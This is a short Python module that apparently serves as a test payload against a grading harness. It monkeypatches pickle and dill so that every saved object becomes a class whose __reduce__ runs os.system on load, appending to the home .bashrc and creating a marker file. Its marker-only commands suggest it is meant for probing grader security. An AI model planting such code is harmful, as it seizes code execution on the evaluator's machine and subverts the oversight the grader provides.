"""Replace what `pickle` and `dill` write by an object that runs a command when the grader loads it."""
import io, os, pickle
import builtins


class Evil:
    def __reduce__(self):
        return (os.system, (f"echo attack-pickle >> {PLACES['home']}/.bashrc; touch {PLACES['cwd']}/attack-pickle",))


real_dump, real_dumps = pickle.dump, pickle.dumps
pickle.dump = lambda thing, file, *args, **kwargs: real_dump(Evil(), file)
pickle.dumps = lambda thing, *args, **kwargs: real_dumps(Evil())
try:
    import dill
    dill.dump, dill.dumps = pickle.dump, pickle.dumps
except ImportError:
    pass
